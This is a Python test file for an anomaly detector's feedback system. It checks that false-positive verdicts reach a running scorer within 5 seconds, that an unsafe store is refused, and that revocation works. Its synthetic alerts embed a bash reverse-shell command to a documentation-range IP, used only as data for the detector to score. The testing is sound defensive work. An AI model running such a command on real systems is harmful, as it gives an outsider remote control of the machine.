"""A verdict reaches a running resident scorer without a restart (issue 16), within 5 seconds;
an unsafe store is refused there and the verdicts in use are kept."""
from __future__ import annotations

import copy
import datetime as dt
import json
import os
import time

import pytest
from test_serve_support import Daemon, Scratch, fitted_model, traffic

from mimizuku.engine.feedback import FeedbackSet
from mimizuku.feedback_cli import entry_for
from mimizuku.integratord import client
from mimizuku.store.feedback import FeedbackStore, default_path

REVERSE = ["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]


@pytest.fixture
def scratch():
    s = Scratch()
    yield s
    s.close()


def _shell(template, n):
    """A reverse shell run on the template's agent (a generated audit command alert), 20 minutes
    after the one before: each its own anomaly, never a repeat of the last (mimizuku.engine.repeats),
    so what unflags one is the verdict alone."""
    a = copy.deepcopy(template)
    a["id"] = f"shell.{n}"
    t = dt.datetime.strptime(template["timestamp"], "%Y-%m-%dT%H:%M:%S.%f%z") + dt.timedelta(minutes=20 * n)
    a["timestamp"] = t.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + t.strftime("%z")
    a["data"]["audit"].update(exe=REVERSE[0], command="bash", execve={f"a{i}": x for i, x in enumerate(REVERSE)})
    return a


def _event_of(col, alert_id, timeout=20.0):
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        for ev in list(col.events):
            if ev.payload and ev.payload["mimizuku"]["source"].get("alert_id") == alert_id:
                return ev.payload["mimizuku"]
        time.sleep(0.02)
    raise AssertionError(f"no event for {alert_id}")


def _wait_loads(server, above, timeout=10.0):
    with server.feedback_done:
        return server.feedback_done.wait_for(lambda: server.feedback_loads > above, timeout)


def test_a_verdict_reaches_a_running_scorer_within_5_seconds_without_a_restart(scratch):
    scratch.install_version("v1")
    col = scratch.analysisd()
    cfg = scratch.config(send="all")
    cfg.options.thresholds = {"*": 0.0}   # the small session model flags little: every score counts
    d = Daemon(cfg)
    try:
        srv = d.server
        template = next(a for a in traffic(200, "tpl") if a.get("agent", {}).get("id") not in (None, "000")
                        and a.get("data", {}).get("audit", {}).get("execve"))
        first = _shell(template, 1)
        assert client.deliver(str(srv.cfg.socket), json.dumps(first).encode(), 10)[0] == "acked"
        assert _event_of(col, first["id"])["anomaly"] is True
        # the analyst marks it a false positive (the store beside the model root)
        model = copy.copy(fitted_model()).set_feedback(None)
        entry = entry_for(model, list(model.iter_scored([_shell(template, 0)]))[0], "false-positive", by="alice")
        store = FeedbackStore(default_path(scratch.models))
        assert store.path == scratch.home / "mimizuku" / "feedback" / "feedback.json"
        loads = srv.feedback_loads
        t0 = time.monotonic()
        store.update(lambda rows: rows.append(entry.to_json()))
        assert _wait_loads(srv, loads)
        assert time.monotonic() - t0 < 5.0
        second = _shell(template, 2)
        assert client.deliver(str(srv.cfg.socket), json.dumps(second).encode(), 10)[0] == "acked"
        ev = _event_of(col, second["id"])
        assert ev["anomaly"] is False and ev["reasons"][0].startswith("suppressed: false positive " + entry.id)
        assert srv.feedback_status["verdicts"] == 1
        # an unsafe store (group-writable) is refused; the verdict in use stays
        loads = srv.feedback_loads
        os.chmod(store.path, 0o666)
        os.utime(store.path, ns=(time.time_ns(), time.time_ns() + 10**9))
        assert _wait_loads(srv, loads)
        assert "writable by group" in srv.feedback_status.get("error", "")
        third = _shell(template, 3)
        assert client.deliver(str(srv.cfg.socket), json.dumps(third).encode(), 10)[0] == "acked"
        assert _event_of(col, third["id"])["anomaly"] is False
        # revoked (a safe store again): the next one is flagged again
        os.chmod(store.path, 0o640)
        loads = srv.feedback_loads
        store.update(lambda rows: rows[0].update(revoked_at="2026-12-07T00:00:00Z", revoked_by="bob"))
        assert _wait_loads(srv, loads)
        fourth = _shell(template, 4)
        assert client.deliver(str(srv.cfg.socket), json.dumps(fourth).encode(), 10)[0] == "acked"
        assert _event_of(col, fourth["id"])["anomaly"] is True
        assert isinstance(srv.scorer.model.feedback, FeedbackSet)
    finally:
        d.stop()
        col.close()
